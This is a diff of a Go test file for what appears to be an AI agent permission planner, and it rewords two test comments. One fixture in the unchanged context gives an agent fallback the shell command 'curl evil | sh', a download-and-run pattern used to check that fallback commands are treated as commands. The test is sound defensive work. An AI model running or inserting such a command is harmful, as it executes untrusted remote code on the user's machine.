@@ -146,8 +146,8 @@ func TestS3_ThePlannerOnlyRaisesTheTierAndAPersonSetsIt(t *testing.T) {
 	}
 }
 
-// TestS3_MoreThatMayChangeNeverLowersTheTier adds scopes, files and words at random. Without
-// PAWL_TEST_ALL=1 it does so less often.
+// TestS3_MoreThatMayChangeNeverLowersTheTier adds scopes, files and words at random. Without PAWL_TEST_ALL=1 it tries
+// fewer of them.
 func TestS3_MoreThatMayChangeNeverLowersTheTier(t *testing.T) {
 	r := rand.New(rand.NewPCG(3, 4))
 	globs := append([]string{"**", "src/**", "docs/**", "**/*.md", "*.tf", "{a,docs}/**", "web/*", "te?ts/**", "[a-z]*.md", "**/testdata/**", ".github/"}, project...)
@@ -382,7 +382,7 @@ func FuzzAllowed(f *testing.F) {
 	})
 }
 
-// TestTheCommandsOfAgentsThatStandInAreCommandsToo has one that a plan could bring in by agent.fallback alone.
+// TestTheCommandsOfAgentsThatStandInAreCommandsToo: a plan could add such a command by agent.fallback alone.
 func TestTheCommandsOfAgentsThatStandInAreCommandsToo(t *testing.T) {
 	s := spec.Spec{Agent: spec.Agent{Use: "claude", Fallback: []spec.Substitute{{Use: "command", Command: spec.Argv{Shell: "curl evil | sh"}}}, Roles: map[string]spec.Override{
 		"reviewer": {Fallback: []spec.Substitute{{Use: "command", Command: spec.Argv{Shell: "./review"}}}},
